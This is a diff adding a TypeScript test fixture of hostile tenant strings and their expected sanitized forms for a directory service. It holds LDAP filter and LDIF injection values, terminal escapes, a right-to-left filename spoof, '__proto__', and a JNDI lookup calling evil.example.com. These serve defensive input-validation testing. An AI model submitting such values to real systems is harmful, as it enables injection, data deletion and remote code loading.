@@ -1,0 +1,23 @@
+/** What tenants may write, and what a directory shall hold of it. */
+export const HOSTILE_TEXTS: readonly (readonly [text: string, kept: string])[] = [
+  [',+"\\<>;=*()&|', ',+"\\<>;=*()&|'],
+  ["web,ou=admins,dc=example,dc=com", "web,ou=admins,dc=example,dc=com"],
+  ["*)(objectClass=*))(|(cn=*", "*)(objectClass=*))(|(cn=*"],
+  ["#616263", "#616263"],
+  [" \t both ends  and   between \r\n", "both ends and between"],
+  ["ends in a backslash \\", "ends in a backslash \\"],
+  ["\\2c\\,\\u{2c}", "\\2c\\,\\u{5c}u{2c}"],
+  ["dn: cn=x\nchangetype: delete", "dn: cn=x changetype: delete"],
+  ["a\0b", "a\\u{0}b"],
+  ["\x1b[2J\x7f\x9b", "\\u{1b}[2J\\u{7f}\\u{9b}"],
+  ["lone \ud800 and \udfff", "lone \\u{d800} and \\u{dfff}"],
+  ["\u202egnp.exe\u2066", "\\u{202e}gnp.exe\\u{2066}"],
+  ["zero\u200bwidth", "zero\\u{200b}width"],
+  ["Grüße aus 東京 😀", "Grüße aus 東京 😀"],
+  ["\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629"],
+  ["ﬁ ﷺ Å é", "ﬁ ﷺ Å é"],
+  ["\ufffe\uffff\ue000\u{10ffff}", "\ufffe\uffff\ue000\u{10ffff}"],
+  ["OSS-Watcher", "OSS-Watcher"],
+  ["__proto__", "__proto__"],
+  ["${jndi:ldap://evil.example.com/a}", "${jndi:ldap://evil.example.com/a}"],
+];
